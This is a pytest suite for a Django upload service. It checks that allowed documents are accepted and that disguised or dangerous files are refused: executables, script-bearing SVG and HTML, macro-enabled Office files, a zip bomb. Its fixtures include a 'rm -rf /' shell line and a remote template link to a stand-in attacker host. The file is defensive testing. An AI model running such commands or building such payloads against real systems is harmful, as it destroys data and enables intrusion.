"""What is taken and what is not, judged by content."""

import io
import stat
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from core.errors import InvalidInput
from projects.services.documents import take_in
from projects.services.file_types import ALLOWED

pytestmark = pytest.mark.usefixtures("english")

PARTS = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}


@pytest.fixture(autouse=True)
def own_folder(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "files"


def office(kind="docx", more=None, content_types=b"<Types/>"):
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", content_types)
        archive.writestr(PARTS[kind], b"<x/>")
        for name, content in (more or {}).items():
            archive.writestr(name, content)
    return packed.getvalue()


def picture(kind):
    packed = io.BytesIO()
    Image.new("RGB", (4, 4)).save(packed, kind)
    return packed.getvalue()


MP4 = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"\x00" * 64
GOOD = [
    ("a.pdf", b"%PDF-1.7\n%%EOF"),
    ("a.PNG", picture("PNG")),
    ("a.jpg", picture("JPEG")),
    ("a.jpeg", picture("JPEG")),
    ("a.webp", picture("WEBP")),
    ("a.docx", office("docx")),
    ("a.xlsx", office("xlsx")),
    ("a.pptx", office("pptx")),
    ("a.txt", "随访记录\n第一行".encode()),
    ("a.txt", "随访记录".encode("gb18030")),
    ("a.txt", b"\xef\xbb\xbf" + "带签名".encode()),
    ("a.mp4", MP4),
]
BAD = [
    ("a.exe", b"MZ\x90\x00", "not taken"),
    ("a", b"%PDF-1.7", "not taken"),
    ("a.svg", b"<svg onload='x()'/>", "not taken"),
    ("a.html", b"<html></html>", "not taken"),
    ("a.docm", office("docx"), "not taken"),
    ("a.zip", office("docx"), "not taken"),
    ("a.doc", b"\xd0\xcf\x11\xe0", "not taken"),
    ("a.pdf.exe", b"%PDF-1.7", "not taken"),
    ("a.pdf", b"", "empty"),
    ("a.pdf", b"MZ\x90\x00", "not what its name says"),
    ("a.pdf", b"<html><script>x()</script>", "not what its name says"),
    ("a.png", b"<svg onload='x()'/>", "not what its name says"),
    ("a.png", picture("JPEG"), "not what its name says"),
    ("a.jpg", b"GIF89a" + b"\x00" * 40, "not what its name says"),
    ("a.txt", b"<!DOCTYPE html><script>x()</script>", "not what its name says"),
    ("a.txt", b"  \n<svg xmlns='x'>", "not what its name says"),
    ("a.txt", b"#!/bin/sh\nrm -rf /", "not what its name says"),
    ("a.txt", b"MZ\x00\x01", "not what its name says"),
    ("a.txt", b"%PDF-1.7", "not what its name says"),
    ("a.mp4", b"\x1aE\xdf\xa3" + b"\x00" * 64, "not what its name says"),
    ("a.docx", office("xlsx"), "not what its name says"),
    ("a.docx", b"PK\x03\x04broken", "damaged"),
    ("a.docx", b"%PDF-1.7", "not what its name says"),
    ("a.docx", office("docx", {"word/vbaProject.bin": b"x"}), "macros"),
    ("a.xlsx", office("xlsx", {"xl/VBAPROJECT.BIN": b"x"}), "macros"),
    ("a.docx", office("docx", content_types=b"application/vnd.ms-word.document.macroEnabled.main+xml"), "macros"),
    ("a.docx", office("docx", {"word/activeX/activeX1.bin": b"x"}), "macros"),
    ("a.docx", office("docx", {"word/embeddings/setup.exe": b"x"}), "macros"),
    (
        "a.docx",
        office(
            "docx",
            {
                "word/_rels/settings.xml.rels": b'<Relationship Type="http://x/attachedTemplate" '
                b'Target="http://evil.example/t.dotm" TargetMode="External"/>'
            },
        ),
        "template",
    ),
]


def send(name, content, claimed="application/pdf"):
    return take_in(SimpleUploadedFile(name, content, content_type=claimed))


@pytest.mark.parametrize(("name", "content"), GOOD)
def test_what_people_hand_in_is_taken(name, content, tmp_path):
    stored = send(name, content, claimed="application/x-msdownload")
    assert stored.size == len(content)
    assert stored.kind in ALLOWED


@pytest.mark.parametrize(("name", "content", "says"), BAD)
def test_everything_else_is_refused_and_leaves_no_file(name, content, says, tmp_path):
    with pytest.raises(InvalidInput) as refusal:
        send(name, content)
    assert says in str(refusal.value.fields["file"][0])
    assert not [path for path in tmp_path.rglob("*") if path.is_file()]


def test_a_packed_bomb_is_refused(tmp_path):
    bomb = office("docx", {"word/media/zero.bin": b"\x00" * (1024 * 1024)})
    packed = io.BytesIO(bomb)
    with zipfile.ZipFile(packed, "a", zipfile.ZIP_DEFLATED) as archive:
        for number in range(10_001):
            archive.writestr(f"x/{number}", b"")
    with pytest.raises(InvalidInput) as refusal:
        send("a.docx", packed.getvalue())
    assert "unusual way" in str(refusal.value.fields["file"][0])


class TestScanner:
    def scanner(self, tmp_path, script):
        path = tmp_path / "scanner"
        path.write_text(f"#!/bin/sh\n{script}\n")
        path.chmod(path.stat().st_mode | stat.S_IXUSR)
        return [str(path)]

    def test_a_clean_file_is_taken(self, settings, tmp_path):
        settings.FILE_SCANNER = self.scanner(tmp_path, 'test -f "$1" || exit 2')
        assert send("a.pdf", b"%PDF-1.7").size == 8

    def test_a_find_is_refused_and_the_file_is_gone(self, settings, tmp_path):
        settings.FILE_SCANNER = self.scanner(tmp_path, "exit 1")
        with pytest.raises(InvalidInput) as refusal:
            send("a.pdf", b"%PDF-1.7")
        assert "found something" in str(refusal.value.fields["file"][0])
        assert not list((tmp_path / "files").rglob("documents/*"))

    @pytest.mark.parametrize("broken", ["exit 2", None])
    def test_without_an_answer_nothing_is_taken(self, settings, tmp_path, broken):
        settings.FILE_SCANNER = self.scanner(tmp_path, broken) if broken else [str(tmp_path / "missing")]
        with pytest.raises(InvalidInput) as refusal:
            send("a.pdf", b"%PDF-1.7")
        assert "cannot be checked" in str(refusal.value.fields["file"][0])
        assert not list((tmp_path / "files").rglob("documents/*"))
